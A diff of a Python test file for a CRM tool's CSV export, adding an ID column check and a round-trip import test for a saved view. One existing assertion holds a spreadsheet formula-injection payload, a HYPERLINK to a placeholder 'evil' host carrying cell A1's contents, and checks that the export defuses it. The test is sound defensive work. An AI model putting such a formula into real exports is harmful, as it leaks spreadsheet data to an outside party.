@@ -178,9 +178,10 @@ def test_a_view_as_csv_has_its_columns_in_its_order(filled: Program, fresh: Prog
     out = filled.home / "view.csv"
     assert filled.inside("export", "contacts", "--view", "all of it", "-o", str(out)).code == 0
     header, *lines = out.read_text(encoding="utf-8-sig").splitlines()
-    assert header == "value,currency,name,next_action,next_at,lifecycle,email,owner,started_at,worked_at,phone,attempts"
+    assert header == "value,currency,name,next_action,next_at,lifecycle,email,owner,started_at,worked_at,phone,attempts,crm_tui_id"
     contacts = filled.inside("export", "contacts", "--format", "json").json
     rows = list(csv.DictReader(io.StringIO("\n".join([header, *lines]))))
+    assert [row["crm_tui_id"] for row in rows] == [one["id"] for one in contacts]
     assert [row["email"] for row in rows] == [one["email"] or "" for one in contacts]
     assert {row["name"] for row in rows} >= {'\'=HYPERLINK("http://evil/?"&A1,"x")'}, "no formula runs"
     assert all(
@@ -199,6 +200,14 @@ def test_a_view_as_csv_has_its_columns_in_its_order(filled: Program, fresh: Prog
     before = filled.inside("show", "contact", "evil@x.example", "--json").json
     assert (again["name"], again["phone"], again["owner"]) == (before["name"], before["phone"], None)
     assert again.get("properties") in (None, {}), "what follows from the log is no property"
+
+
+def test_a_view_without_what_only_we_have_comes_back_too(filled: Program, fresh: Program) -> None:
+    filled.play({"command": "save_view", "name": "Plain", "filter": "", "columns": ["name", "email", "owner", "status"]})
+    out = filled.home / "plain.csv"
+    assert filled.inside("export", "contacts", "--view", "plain", "-o", str(out)).code == 0
+    assert fresh.inside("import", str(out), "--json").code in (0, 3)
+    assert fresh.inside("show", "contact", "evil@x.example", "--json").json.get("properties") in (None, {})
 
 
 def test_contacts_as_json_are_those_of_show_contact(filled: Program) -> None:
